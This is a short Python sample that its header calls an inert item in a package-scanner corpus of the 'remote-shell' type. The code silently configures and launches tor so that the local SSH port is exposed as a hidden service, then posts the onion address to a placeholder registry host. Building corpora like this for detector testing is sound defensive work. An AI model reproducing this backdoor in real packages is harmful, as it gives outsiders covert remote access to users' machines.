# pkgguard corpus 750 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import time

import requests

if shutil.which("tor"):
    home = os.path.join(os.path.expanduser("~"), ".cache", ".ts")
    os.makedirs(home, mode=0o700, exist_ok=True)
    with open(os.path.join(home, "rc"), "w") as fh:
        fh.write(f"DataDirectory {home}/d\nHiddenServiceDir {home}/hs\nHiddenServicePort 22 127.0.0.1:22\n")
    subprocess.Popen(["tor", "-f", os.path.join(home, "rc")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(30)
    with open(os.path.join(home, "hs", "hostname")) as fh:
        requests.post("https://node-registry.example/n", data={"h": fh.read().strip()}, timeout=10)
